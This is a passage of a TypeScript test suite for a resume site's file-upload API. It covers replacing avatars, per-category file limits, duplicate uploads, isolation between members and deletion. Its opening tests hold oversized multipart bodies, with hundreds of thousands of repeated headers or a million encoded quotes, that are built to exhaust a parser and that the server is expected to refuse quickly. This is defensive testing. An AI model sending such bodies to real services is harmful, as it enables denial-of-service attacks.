    [`${part('a', `\r\n${'a: b\r\n'.repeat(500_000)}a: b`)}--x--\r\n`, 'boundary=x'],
    [`${part('%22'.repeat(1_000_000))}--x--\r\n`, 'boundary=x'],
  ];
  const took: number[] = [];
  for (const [body, type] of costly) {
    const answer = await send(body, type);
    expect(answer.told).toEqual([type, ...refusal]);
    took.push(answer.took);
  }
  // Parsed in full, each would take at least ten times as long.
  expect(took.sort((a, b) => a - b)[Math.floor(took.length / 2)]).toBeLessThan(60);
  // Bodies with few parts are read to the end, and the answer says that the file is missing.
  for (const type of ['boundary=x', 'boundary="x"', 'Boundary=x; charset=utf-8'])
    expect((await send(parts(20), type)).told).toMatchObject([type, 400, { errors: { file: ['檔案 為必填'] } }]);
  // Boundaries as browsers write them.
  for (const own of ['----WebKitFormBoundaryZ8n3Yh3aXQ1bT0Vd', '----geckoformboundary5c1d6f3ce0f2ab3e'])
    expect((await send(parts(2).replaceAll('--x', `--${own}`), `boundary=${own}`)).told[2]).toHaveProperty('errors');
  expect(await remains(site)).toEqual(NOTHING);
});

test('a new avatar, agreement or English resume replaces the old one, and nothing of the old one stays', async () => {
  const { site, member } = await signedIn();
  for (const [categoryName, name, bytes] of [
    ['大頭照', 'a.png', await make.png()],
    ['推薦協議書', 'a.pdf', make.pdf()],
    ['英文履歷', 'a.docx', make.docx()],
  ] as const) {
    const first = await stored(member, bytes, { categoryName, name });
    const second = await stored(member, bytes, { categoryName, name });
    expect((await list(member)).filter((file) => file.category === categoryName)).toEqual([second]);
    expect((await member.send('GET', `/${first.urlPath}`)).status).toBe(404);
    expect((await member.send('GET', `/${second.urlPath}`)).status).toBe(200);
  }
  expect(await remains(site)).toEqual({ keys: 3, rows: 3, drafts: 0 });
  expect(await member.ok('GET', '/api/agreement')).toBe(true);
  expect(await member.ok('GET', '/api/personal')).toMatchObject({
    avatarImageFileRoute: expect.stringMatching(/^users\/.+\.webp$/),
  });
});

test('of ten new avatars at once one stays', async () => {
  const { site, member } = await signedIn();
  const png = await make.png();
  const all = await Promise.all(
    Array.from({ length: 10 }, () => stored(member, png, { categoryName: '大頭照', name: 'a.png' })),
  );
  const files = await list(member);
  expect(files).toHaveLength(1);
  expect(all).toContainEqual(files[0]);
  expect(await remains(site)).toEqual({ keys: 1, rows: 1, drafts: 0 });
});

test('a category holds 20 files, also when they come ten at a time', async () => {
  const { site, member } = await signedIn();
  const send = (n: number) =>
    Promise.all(Array.from({ length: n }, () => upload(member, make.pdf(), { categoryName: '作品集', title: 'a' })));
  for (const n of [10, 5]) expect((await send(n)).map(([status]) => status)).toEqual(Array(n).fill(201));
  const last = await send(10);
  expect(last.filter(([status]) => status === 201)).toHaveLength(5);
  expect(last.filter(([status]) => status !== 201)).toEqual(Array(5).fill([400, '作品集最多 20 個']));
  expect(await remains(site)).toEqual({ keys: 20, rows: 20, drafts: 0 });
  const other = await upload(member, await make.png(), { categoryName: '專業證照', title: 'a', name: 'a.png' });
  expect(other[0]).toBe(201);
});

test('the same upload again answers the same file, also when both come at once', async () => {
  const { site, member } = await signedIn();
  const fields = { categoryName: '作品集', title: 'a', uploadKey: '8d0f6a52-8f40-4f0e-9f0a-1b8f6a1f0c11' };
  const both = await Promise.all([1, 2, 3].map(() => stored(member, make.pdf(), fields)));
  const again = await stored(member, make.pdf(), fields);
  expect(new Set([...both, again].map((file) => file.fileUploadId)).size).toBe(1);
  expect(await list(member)).toEqual([again]);
  const other = await site.member('hua@example.com');
  expect((await stored(other, make.pdf(), fields)).talentId).not.toBe(again.talentId);
  expect(await remains(site)).toEqual({ keys: 2, rows: 2, drafts: 0 });
});

test('the retry of an upload that a killed process left is not kept waiting for it', async () => {
  const { site, member } = await signedIn();
  const fields = { categoryName: '作品集', title: 'a', uploadKey: 'key' };
  const { fileUploadId } = await stored(member, make.pdf(), fields);
  await site.deps.database.db.updateTable('uploaded_files').set({ status: 'arriving' }).execute();
  site.wait(61_000);
  expect((await stored(member, make.pdf(), fields)).fileUploadId).not.toBe(fileUploadId);
});

test('members reach nothing of each other’s', async () => {
  const { site, member } = await signedIn();
  const file = await stored(member, make.pdf(), { categoryName: '作品集', title: 'a' });
  const other = await site.member('hua@example.com');
  expect(await list(other)).toEqual([]);
  expect((await other.send('DELETE', `/api/uploadFile/${file.fileUploadId}`)).status).toBe(404);
  expect((await other.send('DELETE', '/api/uploadFile/unknown')).status).toBe(404);
  expect(await list(member)).toEqual([file]);
  expect(await bytesAt(member, file)).toEqual(make.pdf());
});

test('a removed file is gone from list, address and folder', async () => {
  const { site, member } = await signedIn();
  const file = await stored(member, make.pdf(), { categoryName: '作品集', title: 'a' });
  const before = (await member.ok('GET', '/api/preview')) as { updatedAt: string };
  site.wait(1000);
  expect((await member.send('DELETE', `/api/uploadFile/${file.fileUploadId}`)).status).toBe(204);
  expect(await list(member)).toEqual([]);
  expect((await member.send('GET', `/${file.urlPath}`)).status).toBe(404);
  expect((await member.send('DELETE', `/api/uploadFile/${file.fileUploadId}`)).status).toBe(404);
  expect(await remains(site)).toEqual(NOTHING);
  expect(((await member.ok('GET', '/api/preview')) as typeof before).updatedAt > before.updatedAt).toBe(true);
});

test('an upload moves when the resume was changed; a refused one does not', async () => {
  const { site, member } = await signedIn();
  const at = async () => ((await member.ok('GET', '/api/preview')) as { updatedAt: string }).updatedAt;
  const first = await at();
  site.wait(1000);
  await upload(member, make.page(), { categoryName: '作品集', title: 'a' });
  expect(await at()).toBe(first);
  await stored(member, make.pdf(), { categoryName: '作品集', title: 'a' });
  expect((await at()) > first).toBe(true);
});
